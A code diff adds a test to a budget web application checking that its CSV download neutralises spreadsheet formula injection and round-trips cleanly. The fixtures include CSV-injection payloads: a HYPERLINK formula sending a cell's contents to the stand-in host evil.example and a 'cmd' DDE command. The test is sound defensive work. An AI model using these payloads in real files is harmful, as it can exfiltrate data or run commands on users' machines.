@@ -209,6 +209,59 @@ describe('budget lines', () => {
 		assert.equal(c.body, r.body);
 	});
 
+	test('the CSV download neutralises formulas (OWASP CSV injection); amounts stay numbers; it imports back', async () => {
+		// a "bs": the "bp" documents are compared year against year below
+		const id = await createBudget(staff, { year: 2027, type: 'bs' });
+		const evil = [
+			{ section: 'fonctionnement', chapter: '-60', article: '+601', label: '=HYPERLINK("http://evil.example/?"&A1,"Voir")', planned: 0, executed: 1500 },
+			{ section: 'fonctionnement', chapter: '61', article: '@611', label: '+33 1 23 45 67', planned: 2500000, executed: 0 },
+			{ section: 'equipement', chapter: '90', article: '901', label: "'=déjà marqué comme texte", planned: 10, executed: 10 },
+			{ section: 'equipement', chapter: '90', article: '902', label: "''=une apostrophe voulue", planned: 10, executed: 10 },
+			{ section: 'equipement', chapter: '91', article: '911', label: '-cmd|\' /C calc\'!A0', planned: 7, executed: 3 },
+			{ section: 'equipement', chapter: '92', article: '921', label: 'Voirie - tranche 2 = 40 %', planned: 1, executed: 1 },
+		];
+		const r = await upload(staff, id, csvOf(evil), { json: true });
+		assert.equal(r.status, 200, r.body.slice(0, 300));
+		// stored and shown as typed; a quote before a formula is the spreadsheets' "this is
+		// text" mark, which the import takes off (one of them)
+		const stored = evil.map((l) => ({ ...l, label: l.label.replace(/^'(?='*=)/, '') }));
+		assert.deepEqual(stored.map((l) => l.label).slice(2, 4),
+			['=déjà marqué comme texte', "'=une apostrophe voulue"]);
+
+		const csv = await anon.get(`/budgets/${id}/lines.csv`);
+		assert.equal(csv.status, 200);
+		const rows = parseCsv(csv.body).slice(1);
+		assert.equal(rows.length, evil.length);
+		for (const row of rows) {
+			for (const cell of row) {
+				assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a cell a spreadsheet evaluates: ${cell}`);
+			}
+			// planned and executed: plain non-negative integers, as numbers
+			assert.match(row[4], /^\d+$/);
+			assert.match(row[5], /^\d+$/);
+		}
+		assert.deepEqual((await anon.get(`/budgets/${id}.json`)).json.budget.lines.map(stripLine), stored);
+		assert.deepEqual(rows.map((x) => x.slice(1, 4)), [
+			["'-60", "'+601", `'=HYPERLINK("http://evil.example/?"&A1,"Voir")`],
+			['61', "'@611", "'+33 1 23 45 67"],
+			['90', '901', "'=déjà marqué comme texte"],
+			['90', '902', "''=une apostrophe voulue"],
+			['91', '911', "'-cmd|' /C calc'!A0"],
+			['92', '921', 'Voirie - tranche 2 = 40 %'],
+		]);
+		assert.deepEqual(rows.map((x) => [Number(x[4]), Number(x[5])]), stored.map((l) => [l.planned, l.executed]));
+		// the mirror serves the same bytes
+		const cid = await mirrorId(citizen, id);
+		await waitFor(async () => (await citizen.get(`/budgets/${cid}/lines.csv`)).body === csv.body,
+			{ what: 'the mirrored CSV' });
+
+		// the downloaded file imports back as the same lines (the quotes added are taken off)
+		const again = await upload(staff, id, csv.body, { json: true });
+		assert.equal(again.status, 200, again.body.slice(0, 300));
+		assert.deepEqual((await anon.get(`/budgets/${id}.json`)).json.budget.lines.map(stripLine), stored);
+		assert.equal((await anon.get(`/budgets/${id}/lines.csv`)).body, csv.body);
+	});
+
 	test('the SVG charts have text alternatives and the same data in tables', async () => {
 		for (const lang of ['fr', 'ar']) {
 			const r = await anon.get(`/budgets/${budgetId}?lang=${lang}`);
